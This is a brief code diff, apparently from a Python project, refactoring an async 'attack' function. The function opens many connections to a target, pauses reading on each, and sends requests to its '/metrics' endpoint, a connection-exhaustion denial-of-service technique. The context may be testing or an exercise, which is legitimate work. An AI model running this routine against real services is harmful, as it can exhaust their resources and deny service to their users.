@@ -24,8 +24,8 @@ async def attack(target: Target) -> list[str]:
             writers = []
             for _ in range(COUNT):
                 with contextlib.suppress(OSError):
-                    reader, writer = await asyncio.open_connection(host, int(port), limit=1)
-                    reader._transport.pause_reading()  # type: ignore[attr-defined]
+                    _, writer = await asyncio.open_connection(host, int(port), limit=1)
+                    writer.transport.pause_reading()
                     writer.write(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n")
                     writers.append(writer)
             try:
